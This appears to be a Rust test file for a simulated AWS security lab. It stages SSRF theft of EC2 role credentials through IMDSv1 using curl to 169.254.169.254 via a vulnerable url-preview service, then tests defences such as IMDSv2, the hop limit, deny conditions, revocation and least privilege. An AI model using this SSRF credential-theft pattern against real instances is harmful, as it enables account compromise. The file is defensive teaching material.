//! The theft: a careless web service on the instance hands what only the instance can reach to whoever asks from outside.

use serde_json::Value;
use sts_flow::kernel::Millis;
use sts_flow::story::{ATTACKER_ADDRESS, Action, Http, Kind, Node, Terminal};

use super::desk::{Copy, Desk, ROLE};

const AT: Terminal = Terminal::Attacker;

/// `curl` from the attacker's computer, through the instance's web service.
fn through(desk: &mut Desk, path: &str) -> String {
    let address = address(desk);
    desk.at(AT, &format!("curl -s \"http://{address}/?url=http://169.254.169.254/latest/{path}\""))
}

fn address(desk: &Desk) -> String {
    let instance = desk.played.story.world().cloud().instances().next().unwrap();
    instance.public_ip.clone().unwrap_or_default()
}

/// The service runs, port 80 is open to the world, and IMDSv1 is allowed.
fn careless(desk: &mut Desk) {
    assert_eq!(desk.at(Terminal::Ec2, "sudo systemctl start url-preview"), "");
    desk.admin(
        "aws ec2 authorize-security-group-ingress --group-name default --protocol tcp --port 80 --cidr 0.0.0.0/0",
    );
    options(desk, "--http-tokens optional");
}

fn options(desk: &mut Desk, options: &str) {
    let id = desk.instance();
    desk.admin(&format!("aws ec2 modify-instance-metadata-options --instance-id {id} {options}"));
}

/// Steals the credentials and puts them into the attacker's shell.
fn steal(desk: &mut Desk) -> Copy {
    let out = through(desk, &format!("meta-data/iam/security-credentials/{ROLE}"));
    let copy = Copy::read(&out).unwrap_or_else(|| panic!("{out}"));
    for line in copy.exports() {
        assert_eq!(desk.at(AT, &line), "");
    }
    copy
}

fn policy(desk: &mut Desk, name: &str, statement: &str) {
    desk.admin(&format!("echo '{{\"Version\":\"2012-10-17\",\"Statement\":[{statement}]}}' > {name}.json"));
    desk.admin(&format!(
        "aws iam put-role-policy --role-name {ROLE} --policy-name {name} --policy-document file://{name}.json"
    ));
    desk.wait(Millis::seconds(10));
}

/// What CloudTrail's newest record says of how its credentials came.
fn delivery(desk: &Desk) -> String {
    let record = desk.records().pop().unwrap();
    let identity = serde_json::to_value(record.user_identity()).unwrap();
    let context = identity.get("sessionContext").unwrap();
    context.get("ec2RoleDelivery").unwrap().as_str().unwrap().to_owned()
}

const LIST: &str = "aws s3 ls";

fn denied(desk: &mut Desk, terminal: Terminal) {
    let out = desk.at(terminal, LIST);
    assert!(
        out.contains("(AccessDenied)") && out.contains("with an explicit deny in an identity-based policy"),
        "{out}"
    );
}

fn allowed(desk: &mut Desk, terminal: Terminal) {
    let out = desk.at(terminal, LIST);
    assert!(out.contains("flow-photos"), "{out}");
}

#[test]
fn the_attackers_computer_is_there_when_it_is_opened() {
    let mut desk = Desk::new(7);
    desk.act(Action::Open { terminal: AT });
    let opened = desk.events().iter().rev().find_map(|event| match &event.kind {
        Kind::Opened { terminal, prompt } => Some((*terminal, prompt.clone())),
        _ => None,
    });
    assert_eq!(opened, Some((AT, "attacker@outside:~$ ".to_owned())));
    assert_eq!(desk.at(AT, "whoami; hostname; ls; uname"), "attacker\noutside\nLinux\n");
    let out = desk.at(AT, "aws sts get-caller-identity");
    assert!(out.contains("Unable to locate credentials"), "{out}");
    // IMDS is no place on the internet, and nobody becomes root here.
    assert!(desk.at(AT, "curl -sS -m 2 http://169.254.169.254/").contains("timed out"));
    desk.at(AT, "sudo -s");
    assert_eq!(desk.status(AT), "2");
    desk.act(Action::Close { terminal: AT });
    assert!(matches!(desk.events().last().unwrap().kind, Kind::Closed { terminal } if terminal == AT));
}

#[test]
fn who_gets_through_to_the_service() {
    let mut desk = Desk::new(7);
    let address = address(&desk);
    let line = format!("curl -sS -m 3 \"http://{address}/?url=http://169.254.169.254/latest/meta-data/\"");
    // No security group lets it in.
    let out = desk.at(AT, &line);
    assert!(out.contains("timed out"), "{out}");
    desk.admin(
        "aws ec2 authorize-security-group-ingress --group-name default --protocol tcp --port 80 --cidr 203.0.113.0/24",
    );
    assert!(desk.at(AT, &line).contains("timed out"));
    // From the desk it does; and nothing listens.
    let out = desk.at(Terminal::Pc, &line);
    assert!(out.starts_with("curl: (7) Failed to connect to "), "{out}");
    let out = desk.at(Terminal::Ec2, "systemctl start url-preview");
    assert!(out.starts_with("Failed to start url-preview.service: Access denied\n"), "{out}");
    assert_eq!(desk.at(Terminal::Ec2, "systemctl is-active url-preview"), "inactive\n");
    assert_eq!(
        desk.at(Terminal::Ec2, "sudo systemctl enable --now url-preview; systemctl is-active url-preview")
            .lines()
            .last(),
        Some("active")
    );
    let out = desk.at(Terminal::Ec2, "systemctl status url-preview");
    assert!(out.contains("Active: active (running) since Sun 2025-11-02 00:"), "{out}");
    let out = desk.at(Terminal::Pc, &line);
    assert_eq!(out, "GET http://169.254.169.254/latest/meta-data/: 401 Unauthorized\n");
    // What it cannot fetch, it says.
    let out = desk.at(
        Terminal::Pc,
        &format!("curl -s http://{address}/; curl -s 'http://{address}/?url=http://nowhere.example/'"),
    );
    assert_eq!(out, "usage: /?url=http://HOST/PATH\nGET http://nowhere.example/: could not resolve host\n");
    let name = address.replace('.', "-");
    let out = desk.at(
        Terminal::Pc,
        &format!("curl -s -o /dev/null -w '%{{http_code}}' http://ec2-{name}.compute-1.amazonaws.com/"),
    );
    assert_eq!(out, "400");
    desk.admin(
        "aws ec2 revoke-security-group-ingress --group-name default --protocol tcp --port 80 --cidr 203.0.113.0/24",
    );
    assert!(desk.at(Terminal::Pc, &line).contains("timed out"));
    for (line, code) in [
        (
            "revoke-security-group-ingress --group-name default --protocol tcp --port 80 --cidr 203.0.113.0/24",
            "InvalidPermission.NotFound",
        ),
        (
            "authorize-security-group-ingress --group-name default --protocol tcp --port 80 --cidr here",
            "InvalidParameterValue",
        ),
        ("authorize-security-group-ingress --group-name default", "MissingParameter"),
    ] {
        let out = desk.at(super::desk::ADMIN, &format!("aws ec2 {line}"));
        assert!(out.contains(&format!("({code})")), "{line}: {out}");
    }
}

#[test]
fn after_a_restart_the_address_is_another_and_what_is_enabled_runs() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    let (id, first) = (desk.instance(), address(&desk));
    for enable in [false, true] {
        if enable {
            desk.at(Terminal::Ec2, "sudo systemctl enable --now url-preview");
        }
        desk.admin(&format!("aws ec2 stop-instances --instance-ids {id}"));
        desk.wait(Millis::minutes(1));
        assert!(desk.at(AT, &format!("curl -sS -m 2 http://{first}/")).contains("timed out"));
        desk.admin(&format!("aws ec2 start-instances --instance-ids {id}"));
        desk.wait(Millis::minutes(1));
        assert_ne!(address(&desk), first);
        let told = desk.admin(
            "aws ec2 describe-instances --query 'Reservations[0].Instances[0].[PublicIpAddress,SecurityGroups[0].GroupName]' --output text",
        );
        assert_eq!(told, format!("{}\tdefault\n", address(&desk)));
        let now = address(&desk);
        let out = desk.at(AT, &format!("curl -s http://{now}/"));
        assert_eq!(out.starts_with("usage"), enable, "{out}");
    }
}

#[test]
fn imdsv1_leaks_and_imdsv2_does_not() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    assert_eq!(through(&mut desk, "meta-data/iam/security-credentials/"), ROLE);
    let before = desk.events().len();
    let copy = steal(&mut desk);
    assert_eq!(copy.key, desk.newest().key);
    // The messages of it: attacker → instance → IMDS, and back.
    let way: Vec<_> = desk.events()[before..]
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::Message(message) => Some((message.from, message.to, message.status())),
            _ => None,
        })
        .collect();
    let (out, home, imds) = (Node::Attacker, Node::Ec2, Node::Imds);
    assert_eq!(way[..4], [(out, home, None), (home, imds, None), (imds, home, Some(200)), (home, out, Some(200))]);
    // What the instance sends is its own: a GET without a header of the attacker's.
    let sent = desk.events()[before..].iter().find_map(|event| match &event.kind {
        Kind::Message(message) if message.to == imds => match &message.http {
            Http::Request(request) => Some(request.clone()),
            Http::Response(_) => None,
        },
        _ => None,
    });
    assert_eq!(sent.unwrap().headers.get("user-agent"), Some("url-preview/1.0"));
    // It works out there, as the instance's role, from another address.
    allowed(&mut desk, AT);
    let record = desk.records().pop().unwrap();
    assert_eq!(record.event_name, "ListBuckets");
    assert_eq!(record.source_ip_address, ATTACKER_ADDRESS);
    assert_eq!(delivery(&desk), "1.0");

    // IMDSv2 required: the service cannot PUT, and sets no header.
    options(&mut desk, "--http-tokens required");
    let out = through(&mut desk, &format!("meta-data/iam/security-credentials/{ROLE}"));
    assert_eq!(
        out,
        format!("GET http://169.254.169.254/latest/meta-data/iam/security-credentials/{ROLE}: 401 Unauthorized\n")
    );
    let address = address(&desk);
    let put = format!(
        "curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' \"http://{address}/?url=http://169.254.169.254/latest/api/token\""
    );
    assert_eq!(desk.at(AT, &put), "only GET is supported\n");
    let get = put.replace("-X PUT ", "");
    assert!(desk.at(AT, &get).ends_with("latest/api/token: 405 Method Not Allowed\n"));
    // A proxy that passes the method on, and says for whom, is refused as well.
    let out = desk.at(
        Terminal::Ec2,
        "curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' -H 'X-Forwarded-For: \
         198.51.100.23' http://169.254.169.254/latest/api/token",
    );
    assert_eq!(out, "403");
    // What was stolen before goes on working, and stays what came by IMDSv1; what the instance fetches itself works too.
    allowed(&mut desk, AT);
    assert_eq!(delivery(&desk), "1.0");
    allowed(&mut desk, Terminal::Ec2);
    let newer = desk.fetch();
    assert_eq!(newer.key, copy.key, "until the next refresh");
    desk.wait(Millis::minutes(75));
    desk.fetch();
    allowed(&mut desk, Terminal::Ec2);
    assert_eq!(delivery(&desk), "2.0");
}

#[test]
fn the_hop_limit_keeps_a_container_from_the_token() {
    let mut desk = Desk::new(7);
    let put = "docker run --rm curlimages/curl curl -s -m 3 -o /dev/null -w '%{http_code}' -X PUT \
               http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60'";
    for (limit, code) in [(2, "200"), (1, "000"), (64, "200")] {
        options(&mut desk, &format!("--http-put-response-hop-limit {limit}"));
        assert_eq!(desk.at(Terminal::Ec2, put), code, "{limit}");
        let host = put.replace("docker run --rm curlimages/curl ", "");
        assert_eq!(desk.at(Terminal::Ec2, &host), "200", "the host itself is one hop away");
    }
}

#[test]
fn a_set_that_came_by_imdsv1_can_be_refused() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    steal(&mut desk);
    allowed(&mut desk, AT);
    policy(
        &mut desk,
        "v2only",
        r#"{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"NumericLessThan":{"ec2:RoleDelivery":"2.0"}}}"#,
    );
    denied(&mut desk, AT);
}

/// `ec2:SourceInstanceARN` says whose session it is, not where it is used: of itself it stops no theft.
#[test]
fn the_source_instance_arn_stays_with_the_session() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    steal(&mut desk);
    let id = desk.instance();
    let statement = |arn: &str| {
        format!(
            r#"{{"Effect":"Deny","Action":"*","Resource":"*","Condition":{{"ArnNotEquals":{{"ec2:SourceInstanceARN":"arn:aws:ec2:us-east-1:123456789012:instance/{arn}"}}}}}}"#
        )
    };
    policy(&mut desk, "mine", &statement(&id));
    allowed(&mut desk, AT);
    allowed(&mut desk, Terminal::Ec2);
    // What it is for: another instance with the same role may not.
    policy(&mut desk, "mine", &statement("i-0123456789abcdef0"));
    denied(&mut desk, AT);
    denied(&mut desk, Terminal::Ec2);
}

const VIA: &str = r#""Null":{"ec2:SourceInstanceARN":"false"},"BoolIfExists":{"aws:ViaAWSService":"false"}"#;

/// AWS's recommended policies: the VPC and the address to which the credentials were delivered, against those from which
/// the request comes.
#[test]
fn credentials_bound_to_their_vpc_and_address() {
    let deny = |key: &str, value: &str| {
        format!(
            r#"{{"Effect":"Deny","Action":"*","Resource":"*","Condition":{{"StringNotEquals":{{"{key}":"{value}"}},{VIA}}}}}"#
        )
    };
    let same_vpc = deny("aws:SourceVpc", "${aws:Ec2InstanceSourceVpc}");
    let other_way = deny("aws:Ec2InstanceSourceVpc", "${aws:SourceVpc}");
    let address = deny("aws:Ec2InstanceSourcePrivateIPv4", "${aws:VpcSourceIp}");
    for statements in [same_vpc, other_way.clone(), format!("{other_way},{address}")] {
        let mut desk = Desk::new(7);
        careless(&mut desk);
        steal(&mut desk);
        allowed(&mut desk, AT);
        policy(&mut desk, "bound", &statements);
        denied(&mut desk, AT);
        // Without an endpoint the instance's own calls carry no VPC either, and are denied with it.
        denied(&mut desk, Terminal::Ec2);
        let made = desk.admin(&format!(
            "aws ec2 create-vpc-endpoint --vpc-id {} --service-name com.amazonaws.us-east-1.s3 --route-table-ids \
             rtb-0123456789abcdef0 --query VpcEndpoint.VpcEndpointId --output text",
            sts_flow::cloud::VPC
        ));
        allowed(&mut desk, Terminal::Ec2);
        let record = serde_json::to_value(desk.records().pop().unwrap()).unwrap();
        let field = |name: &str| record.get(name).and_then(Value::as_str).unwrap_or("").to_owned();
        assert_eq!(field("vpcEndpointId"), made.trim());
        assert_eq!(field("sourceIPAddress"), "10.0.1.23");
        denied(&mut desk, AT);
        // Others are left alone.
        allowed(&mut desk, super::desk::ADMIN);
        // Services without an endpoint stay closed to the instance; who am I asks for no permission.
        let out = desk.at(Terminal::Ec2, "aws ec2 describe-instances --region us-east-1");
        assert!(out.contains("(UnauthorizedOperation)"), "{out}");
        assert!(desk.at(Terminal::Ec2, "aws sts get-caller-identity").contains(ROLE));
        let known = desk.admin("aws ec2 describe-vpc-endpoints --query 'VpcEndpoints[].State' --output text");
        assert_eq!(known, "available\n");
        desk.admin(&format!("aws ec2 delete-vpc-endpoints --vpc-endpoint-ids {}", made.trim()));
        denied(&mut desk, Terminal::Ec2);
    }
}

#[test]
fn revoked_after_the_theft() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    let copy = steal(&mut desk);
    super::reuse::revoke(&mut desk);
    denied(&mut desk, AT);
    // With the hole still open the thief comes back, once IMDS serves a newer set.
    assert_eq!(steal(&mut desk), copy);
    desk.wait(Millis::minutes(75));
    assert_ne!(steal(&mut desk).key, copy.key);
    allowed(&mut desk, AT);
    // Closed, and revoked again: that is the end of it.
    options(&mut desk, "--http-tokens required");
    super::reuse::revoke(&mut desk);
    denied(&mut desk, AT);
    desk.wait(Millis::minutes(75));
    denied(&mut desk, AT);
    allowed(&mut desk, Terminal::Ec2);
}

#[test]
fn least_privilege_limits_the_loot() {
    let mut desk = Desk::new(7);
    careless(&mut desk);
    steal(&mut desk);
    let write = "echo x > loot; aws s3 cp loot s3://flow-photos/loot";
    for (policy, allowed) in [("AmazonS3ReadOnlyAccess", false), ("AmazonS3FullAccess", true)] {
        desk.admin(&format!(
            "aws iam attach-role-policy --role-name {ROLE} --policy-arn arn:aws:iam::aws:policy/{policy}"
        ));
        desk.wait(Millis::seconds(10));
        assert_eq!(desk.at(AT, write).contains("upload: "), allowed, "{policy}");
    }
}
